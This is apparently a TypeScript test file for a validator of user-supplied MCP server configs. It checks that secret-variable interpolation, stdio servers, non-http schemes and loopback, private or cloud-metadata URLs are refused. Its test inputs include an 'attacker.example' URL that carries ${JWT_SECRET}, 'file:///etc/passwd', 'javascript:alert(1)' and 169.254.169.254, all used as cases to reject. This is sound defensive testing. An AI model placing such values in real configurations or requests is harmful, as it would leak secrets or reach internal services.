import { caught } from '../../registry/test/helpers';
import { parseUserServerConfig } from '../src/schema/user-config';
import { parseServerConfig } from '../src/schema/server-config';

const remote = { type: 'streamable-http', url: 'https://mcp.example.com/mcp' };

describe('user-supplied configs', () => {
  it('accepts a remote server and marks it user-supplied', () => {
    expect(parseUserServerConfig(remote)).toMatchObject({ ...remote, userSupplied: true });
  });

  it.each([
    ['a URL', { ...remote, url: 'https://attacker.example/?k=${JWT_SECRET}' }, 'url', 'JWT_SECRET'],
    ['a URL host', { ...remote, url: 'https://${HOST}/mcp' }, 'url', 'HOST'],
    [
      'a header',
      { ...remote, headers: { Authorization: 'Bearer ${JWT_SECRET}' } },
      'headers.Authorization',
      'JWT_SECRET',
    ],
    ['an OAuth field', { ...remote, oauth: { client_secret: '${CREDS_KEY}' } }, 'oauth.client_secret', 'CREDS_KEY'],
    ['an env reference', { ...remote, headers: { 'X-A': '${env:MONGO_URI}' } }, 'headers.X-A', 'env:MONGO_URI'],
    ['an argument', { type: 'stdio', command: 'x', args: ['${JWT_SECRET}'] }, 'args.0', 'JWT_SECRET'],
  ])('refuses ${VAR} in %s, naming the field and the variable', (_what, input, path, variable) => {
    const error = caught(() => parseUserServerConfig(input, { allowStdio: true, pathPrefix: 'config' }));
    expect(error.code).toBe('INVALID_CONFIG');
    const issue = error.issues.find((candidate) => candidate.path === `config.${path}`);
    expect(issue?.message).toContain(`\${${variable}}`);
    expect(issue?.message).toMatch(/not allowed in a user-supplied config/);
  });

  it('the operator schema accepts what the user schema refuses', () => {
    const input = { ...remote, url: 'https://${HOST}/mcp', headers: { Authorization: 'Bearer ${JWT_SECRET}' } };
    expect(parseServerConfig(input)).toMatchObject({ url: 'https://${HOST}/mcp' });
    expect(caught(() => parseUserServerConfig(input)).issues.map((issue) => issue.path)).toEqual([
      'url',
      'headers.Authorization',
    ]);
  });

  it('refuses stdio unless the operator allows it', () => {
    const stdio = { type: 'stdio', command: 'npx', args: ['-y', 'server'] };
    expect(caught(() => parseUserServerConfig(stdio)).issues).toEqual([
      { path: 'type', message: 'stdio servers may only be configured by an operator' },
    ]);
    expect(parseUserServerConfig(stdio, { allowStdio: true })).toMatchObject({ type: 'stdio', userSupplied: true });
  });

  it('keeps VS Code inputs and per-user placeholders', () => {
    const input = {
      ...remote,
      url: 'https://${input:host}/mcp',
      headers: { 'X-User': '{{LIBRECHAT_USER_ID}}' },
      customUserVars: { host: { title: 'Host' } },
    };
    expect(parseUserServerConfig(input)).toMatchObject({ url: 'https://${input:host}/mcp' });
  });

  it.each([
    ['file', 'file:///etc/passwd'],
    ['javascript', 'javascript:alert(1)'],
    ['ftp', 'ftp://x.example/'],
  ])('limits URLs to http(s) (%s refused)', (_scheme, url) => {
    expect(caught(() => parseUserServerConfig({ ...remote, url })).issues.map((issue) => issue.path)).toEqual(['url']);
  });

  it('reports every problem at once and returns nothing', () => {
    const error = caught(() =>
      parseUserServerConfig({ type: 'stdio', command: '', env: { A: '${B}' } }, { source: 'api' }),
    );
    expect(error.source).toBe('api');
    expect(error.issues.map((issue) => issue.path).sort()).toEqual(['command', 'env.A', 'type']);
  });
});

describe('user-supplied URLs that need no lookup to be refused', () => {
  it.each([
    ['http://127.0.0.1:8080/mcp', /loopback/],
    ['http://[::1]/mcp', /loopback/],
    ['http://10.0.0.1/mcp', /private/],
    ['http://169.254.169.254/latest', /cloud metadata/],
    ['http://metadata.google.internal/', /cloud metadata/],
    ['http://localhost:3000/mcp', /local machine/],
  ])('%s is refused on url', (url, message) => {
    const error = caught(() => parseUserServerConfig({ ...remote, url }));
    expect(error.issues).toEqual([{ path: 'url', message: expect.stringMatching(message) as unknown }]);
  });

  it('unless the operator allow-list covers it; names are left to the asynchronous guard', () => {
    expect(
      parseUserServerConfig({ ...remote, url: 'http://127.0.0.1:8080/mcp' }, { allowAddresses: ['127.0.0.1'] }),
    ).toMatchObject({ url: 'http://127.0.0.1:8080/mcp' });
    expect(parseUserServerConfig({ ...remote, url: 'https://intranet.corp.example/mcp' })).toBeDefined();
    expect(parseServerConfig({ ...remote, url: 'http://127.0.0.1:8080/mcp' })).toBeDefined();
  });
});
